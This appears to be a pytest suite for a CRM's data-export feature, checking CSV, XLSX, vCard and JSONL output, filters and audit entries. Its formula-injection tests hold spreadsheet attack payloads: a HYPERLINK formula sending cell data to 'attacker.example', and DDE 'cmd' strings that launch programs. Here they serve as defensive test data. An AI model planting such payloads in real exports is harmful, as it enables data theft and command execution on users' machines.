"""What export files hold, started and downloaded the way a user does it."""

import csv
import io
import json
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse

from accord.audit.models import AuditEntry
from accord.customers import services
from accord.customers.models import Contact, CustomField
from accord.integrations.models import ExportJob, ExternalId
from accord.integrations.tasks import run_export

CASES = Path(__file__).resolve().parents[2] / "testdata" / "cases"
FORMULA_CASE = CASES / "csv-export-formula-injection" / "contacts_with_formulas.csv"
PHONE_CASE = CASES / "phone-leading-zero-and-plus" / "contacts_phones.csv"
START = reverse("integrations:export_list")


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def export(client, entity: str, format: str, query: str = "") -> bytes:
    """Start an export from the web, run its job, download the file."""
    started = client.post(START, {"entity": entity, "format": format, "query": query})
    assert started.status_code == 302, started.content
    job_id = int(started["Location"].rstrip("/").rsplit("/", 1)[-1])

    assert run_export(job_id) == "done"

    download = client.get(reverse("integrations:export_download", args=[job_id]))
    assert download.status_code == 200
    return b"".join(download.streaming_content)


def csv_rows(data: bytes) -> list[dict]:
    assert data.startswith("\ufeff".encode())
    text = data.decode("utf-8")[1:]
    assert "\r\n" in text
    return list(csv.DictReader(io.StringIO(text, newline="")))


def xlsx_rows(data: bytes) -> list[dict]:
    """Each row as {header: cell}, with the openpyxl cells to check their types."""
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows())
    headers = [cell.value for cell in rows[0]]
    return [dict(zip(headers, row, strict=True)) for row in rows[1:]]


@pytest.fixture
def formula_contacts(org, admin, in_org):
    """The contacts of the formula-injection case, entered as its CSV gives them."""
    with FORMULA_CASE.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    with in_org(org):
        CustomField.objects.create(organization=org, entity="contact", key="note",
                                   label="Note", field_type="text")
        for row in rows:
            company = services.create_company(org, admin.user, data={"name": row["company"]})
            services.create_contact(org, admin.user, data={
                "first_name": row["first_name"], "last_name": row["last_name"],
                "company": company.pk, "phones": [row["phone"]],
                "custom_fields": {"note": row["note"]},
            })
    return rows


def test_the_case_imports_verbatim(org, admin, in_org, tmp_path):
    """Values a spreadsheet would take for formulas are text to the CRM: kept as given,
    a leading TAB included."""
    mapping = tmp_path / "mapping.json"
    mapping.write_text(json.dumps({"first_name": "first_name", "last_name": "last_name",
                                   "company": "company", "phone": "phone", "note": "cf.note"}),
                       encoding="utf-8")
    with in_org(org):
        CustomField.objects.create(organization=org, entity="contact", key="note",
                                   label="Note", field_type="text")
    err = io.StringIO()
    call_command("import", str(FORMULA_CASE), org=org.slug, entity="contact",
                 mapping=str(mapping), stdout=io.StringIO(), stderr=err)

    with in_org(org):
        stored = sorted((contact.first_name, contact.last_name, contact.company.name,
                         contact.phones.get().raw, contact.custom_fields.get("note", ""))
                        for contact in Contact.objects.select_related("company"))
    assert err.getvalue() == ""
    assert stored == sorted([
        ('=HYPERLINK("http://attacker.example/x?d="&A2;"Click")', "Fenn", "Hollow Oak Ltd",
         "+1 555 0100", "ok"),
        ("Dana", "Kirsch", "@SUM(1+1)", "+44 20 7946 0102", "-10% agreed"),
        ("Omar", "Haddad", "Tidewater Co", "0044 20 7946 0103", "\tcmd|' /C calc'!A0"),
        ("Rosa", "Lindqvist", "+cmd|' /C notepad'!A0", "+46 8 123 456", "=1+2"),
    ])


FORMULA_CELLS = [  # (first name, last name, company, phone, note) as expected.md gives them
    ("'=HYPERLINK(\"http://attacker.example/x?d=\"&A2;\"Click\")", "Fenn", "Hollow Oak Ltd",
     "'+1 555 0100", "ok"),
    ("Omar", "Haddad", "Tidewater Co", "0044 20 7946 0103", "'\tcmd|' /C calc'!A0"),
    ("Dana", "Kirsch", "'@SUM(1+1)", "'+44 20 7946 0102", "'-10% agreed"),
    ("Rosa", "Lindqvist", "'+cmd|' /C notepad'!A0", "'+46 8 123 456", "'=1+2"),
]
FORMULA_COLUMNS = ["First name", "Last name", "Company", "Phone", "Note"]


def test_csv_export_neutralises_formulas_from_the_case(org, admin, client_for,
                                                       formula_contacts):
    rows = csv_rows(export(client_for(admin), "contacts", "csv", "ordering=last_name"))

    assert [tuple(row[name] for name in FORMULA_COLUMNS) for row in rows] == FORMULA_CELLS


def test_xlsx_export_writes_formula_text_as_string_cells(org, admin, client_for,
                                                         formula_contacts):
    rows = xlsx_rows(export(client_for(admin), "contacts", "xlsx", "ordering=last_name"))

    assert [tuple(row[name].value for name in FORMULA_COLUMNS) for row in rows] == FORMULA_CELLS
    assert {row[name].data_type for row in rows for name in FORMULA_COLUMNS} == {"s"}


def test_numbers_stay_numbers_in_csv_and_xlsx(org, admin, client_for, in_org):
    with in_org(org):
        CustomField.objects.create(organization=org, entity="company", key="balance",
                                   label="Balance", field_type="money", currency="EUR")
        CustomField.objects.create(organization=org, entity="company", key="seats",
                                   label="Seats", field_type="number")
        services.create_company(org, admin.user, data={
            "name": "Acme", "employees": 12, "annual_revenue": "-250.00", "currency": "EUR",
            "postal_code": "01234", "custom_fields": {"balance": "-99.50", "seats": "-3"},
        })
    client = client_for(admin)
    numbers = ["Employees", "Annual revenue", "Balance", "Seats"]

    [from_csv] = csv_rows(export(client, "companies", "csv"))
    [from_xlsx] = xlsx_rows(export(client, "companies", "xlsx"))

    assert [from_csv[name] for name in numbers] == ["12", "-250.00", "-99.50", "-3"]
    assert [from_xlsx[name].value for name in numbers] == [12, -250, -99.5, -3]
    assert {from_xlsx[name].data_type for name in numbers} == {"n"}
    assert (from_csv["Currency"], from_csv["Balance currency"]) == ("EUR", "EUR")
    assert (from_xlsx["Postal code"].value, from_xlsx["Postal code"].data_type) == ("01234", "s")
    assert from_xlsx["ID"].data_type == "s"


def test_phone_cells_are_text_exactly_as_typed(org, admin, client_for, in_org):
    with PHONE_CASE.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    with in_org(org):
        for row in rows:
            first, last = row["name"].split(" ")
            services.create_contact(org, admin.user, data={
                "first_name": first, "last_name": last, "country": row["country"],
                "phones": [row["phone"]],
            })
    client = client_for(admin)
    expected = {
        "Lotte": "0444 12 34 56", "Aidan": "'+44 (0)20 7946 0958", "Greta": "00441632960123",
        "Paolo": "02 1234 5678", "Nina": "0049 30 901820",
        "Ravi": "'+1 (555) 010-0199 ext. 42",
    }

    from_csv = csv_rows(export(client, "contacts", "csv"))
    from_xlsx = xlsx_rows(export(client, "contacts", "xlsx"))

    assert {row["First name"]: row["Phone"] for row in from_csv} == expected
    assert {row["First name"].value: row["Phone"].value for row in from_xlsx} == expected
    assert {row["Phone"].data_type for row in from_xlsx} == {"s"}


def test_vcard_export_holds_every_email_with_type_and_pref(org, admin, client_for, in_org):
    with in_org(org):
        company = services.create_company(org, admin.user, data={"name": "Polder Logistics"})
        contact = services.create_contact(org, admin.user, data={
            "first_name": "Femke", "last_name": "Achterberg", "company": company.pk,
            "emails": [
                {"address": "f.achterberg@polder.example", "kind": "work"},
                {"address": "femke.a@mail.example", "kind": "home", "is_primary": True},
                {"address": "facturen@polder.example", "kind": "other", "label": "Billing"},
            ],
            "phones": [{"number": "+31 6 12345678", "kind": "mobile"}],
        })

    card = export(client_for(admin), "contacts", "vcf").decode("utf-8")

    lines = card.replace("\r\n ", "").split("\r\n")
    assert lines[:4] == ["BEGIN:VCARD", "VERSION:4.0", "PRODID:-//Accord//Accord CRM//EN",
                         f"UID;VALUE=text:accord-contact-{contact.pk}"]
    assert [line for line in lines if "EMAIL" in line or "X-ABLabel" in line] == [
        "EMAIL;TYPE=home;PREF=1:femke.a@mail.example",
        "EMAIL;TYPE=work:f.achterberg@polder.example",
        "item1.EMAIL:facturen@polder.example",
        "item1.X-ABLabel:Billing",
    ]
    assert "ORG:Polder Logistics" in lines
    assert "TEL;VALUE=text;TYPE=cell;PREF=1:+31 6 12345678" in lines


def test_jsonl_export_holds_every_field(org, admin, member, client_for, in_org):
    with in_org(org):
        CustomField.objects.create(organization=org, entity="contact", key="score",
                                   label="Score", field_type="number")
        CustomField.objects.create(organization=org, entity="contact", key="budget",
                                   label="Budget", field_type="money", currency="EUR")
        company = services.create_company(org, admin.user, data={"name": "Acme"})
        contact = services.create_contact(org, admin.user, data={
            "first_name": "Ana", "last_name": "Lima", "title": "Buyer", "company": company.pk,
            "owner": member.user.pk, "lifecycle_stage": "customer", "birthday": "1990-02-03",
            "street": "Rua 1", "city": "Porto", "postal_code": "4000-001", "country": "PT",
            "emails": [{"address": "ana@acme.example", "kind": "work"}],
            "phones": [{"number": "+1 (555) 010-0199 ext. 42", "kind": "work",
                        "label": "Desk"}],
            "tags": ["vip", "beta"],
            "custom_fields": {"score": "7.5", "budget": {"amount": "1200.50",
                                                         "currency": "EUR"}},
        })
        contact.refresh_from_db()
        ExternalId.objects.create(organization=org, entity="contact", record_id=contact.pk,
                                  system="shop", value="C-17")

    [line] = export(client_for(admin), "contacts", "jsonl").decode("utf-8").splitlines()

    assert json.loads(line) == {
        "id": contact.pk, "first_name": "Ana", "last_name": "Lima", "title": "Buyer",
        "email": "ana@acme.example", "phone": contact.phone,
        "company": {"id": company.pk, "name": "Acme"}, "lifecycle_stage": "customer",
        "emails": [{"address": "ana@acme.example", "kind": "work", "label": "",
                    "primary": True}],
        "phones": [{"raw": "+1 (555) 010-0199 ext. 42", "e164": "+15550100199",
                    "extension": "42", "kind": "work", "label": "Desk", "primary": True}],
        "birthday": "1990-02-03", "time_zone": "", "do_not_contact": False,
        "owner": member.user.email, "owner_id": member.user.pk, "tags": ["beta", "vip"],
        "street": "Rua 1", "city": "Porto", "region": "", "postal_code": "4000-001",
        "country": "PT", "source": "",
        "custom_fields": {"score": contact.custom_fields["score"],
                          "budget": {"amount": "1200.50", "currency": "EUR"}},
        "external_ids": {"shop": "C-17"},
        "created_at": contact.created_at.isoformat().replace("+00:00", "Z"),
        "updated_at": contact.updated_at.isoformat().replace("+00:00", "Z"),
        "version": contact.version,
    }


def test_filtered_list_exports_only_its_rows_in_its_order(org, admin, client_for, in_org):
    with in_org(org):
        for name, stage in [("Ann", "customer"), ("Ben", "lead"), ("Cy", "customer"),
                            ("Dee", "customer")]:
            services.create_contact(org, admin.user, data={
                "first_name": name, "lifecycle_stage": stage,
                "tags": ["vip"] if name != "Dee" else []})
    client = client_for(admin)

    rows = csv_rows(export(client, "contacts", "csv",
                           "lifecycle_stage=customer&tag=vip&ordering=-first_name"))

    assert [(row["First name"], row["Lifecycle stage"]) for row in rows] == [
        ("Cy", "Customer"), ("Ann", "Customer")]


def test_export_menu_on_the_list_posts_the_current_filters(org, admin, client_for):
    response = client_for(admin).get(reverse("customers:contact_list"), {
        "lifecycle_stage": "customer", "ordering": "-name", "columns": ["name", "email"],
    })

    html = response.content.decode()
    assert f'action="{START}"' in html
    assert ('name="query" value="lifecycle_stage=customer&amp;ordering=-name"') in html
    assert 'name="format" value="vcf"' in html


def test_saved_view_exports_its_stored_filters(org, admin, client_for, in_org):
    with in_org(org):
        for name, stage in [("Ann", "customer"), ("Ben", "lead")]:
            services.create_contact(org, admin.user, data={"first_name": name,
                                                           "lifecycle_stage": stage})
        view = services.save_view(org, admin.user, entity="contact", name="Customers",
                                  query="lifecycle_stage=customer", columns=["name"])
    client = client_for(admin)

    page = client.get(reverse("customers:contact_list"), {"view": view.pk}).content.decode()
    rows = csv_rows(export(client, "contacts", "csv", "lifecycle_stage=customer"))

    assert 'name="query" value="lifecycle_stage=customer"' in page
    assert [row["First name"] for row in rows] == ["Ann"]


def test_company_list_offers_no_vcard(org, admin, client_for):
    page = client_for(admin).get(reverse("customers:company_list")).content.decode()

    assert 'name="entity" value="companies"' in page
    assert 'name="format" value="xlsx"' in page
    assert 'name="format" value="vcf"' not in page


def test_whole_organisation_is_a_zip_with_a_file_per_entity(org, admin, client_for, in_org):
    with in_org(org):
        company = services.create_company(org, admin.user, data={"name": "Acme",
                                                                 "tags": ["key account"]})
        services.create_contact(org, admin.user, data={"first_name": "Ann",
                                                       "company": company.pk})

    data = export(client_for(admin), "organisation", "jsonl")

    archive = zipfile.ZipFile(io.BytesIO(data))
    assert archive.namelist() == ["contacts.jsonl", "companies.jsonl", "products.jsonl",
                                  "deals.jsonl", "orders.jsonl", "activities.jsonl",
                                  "tags.jsonl", "custom_fields.jsonl"]
    contacts = [json.loads(line) for line in archive.read("contacts.jsonl").splitlines()]
    tags = [json.loads(line) for line in archive.read("tags.jsonl").splitlines()]
    activities = archive.read("activities.jsonl").splitlines()
    assert [contact["first_name"] for contact in contacts] == ["Ann"]
    assert [tag["name"] for tag in tags] == ["key account"]
    assert len(activities) >= 2  # the two "created" events on the timelines


def test_whole_organisation_as_xlsx_has_a_workbook_per_entity(org, admin, client_for, in_org):
    with in_org(org):
        services.create_company(org, admin.user, data={"name": "=Acme"})

    data = export(client_for(admin), "organisation", "xlsx")

    archive = zipfile.ZipFile(io.BytesIO(data))
    companies = xlsx_rows(archive.read("companies.xlsx"))
    tags = openpyxl.load_workbook(io.BytesIO(archive.read("tags.xlsx"))).active
    assert [row["Name"].value for row in companies] == ["'=Acme"]
    assert [cell.value for cell in next(tags.iter_rows())] == [
        "id", "name", "color", "created_at", "updated_at"]


def test_export_is_audited_with_its_row_count(org, admin, client_for, in_org):
    with in_org(org):
        services.create_contact(org, admin.user, data={"first_name": "Ann"})

    client = client_for(admin)
    export(client, "contacts", "csv", "q=ann")
    log = client.get(reverse("audit:log"))

    assert log.status_code == 200
    assert "Contacts (CSV)" in log.content.decode()
    with in_org(org):
        entry = AuditEntry.objects.get(entity="export")
        job = ExportJob.objects.get()
    assert (entry.actor, entry.action, entry.via, entry.object_id) == (
        admin.user, "access", "job", job.pk)
    assert entry.changes == {"entity": [None, "contacts"], "format": [None, "csv"],
                             "query": [None, "q=ann"], "rows": [None, 1]}


def test_running_a_job_twice_rewrites_the_file_and_audits_once(org, admin, client_for,
                                                               in_org, mailoutbox):
    with in_org(org):
        services.create_contact(org, admin.user, data={"first_name": "Ann"})
    client = client_for(admin)
    first = export(client, "contacts", "jsonl")
    with in_org(org):
        job = ExportJob.objects.get()

    assert run_export(job.pk) == "done"

    second = client.get(reverse("integrations:export_download", args=[job.pk]))
    assert b"".join(second.streaming_content) == first
    with in_org(org):
        assert AuditEntry.objects.filter(entity="export").count() == 1
        assert ExportJob.objects.get().rows_written == 1
    assert len(mailoutbox) == 1
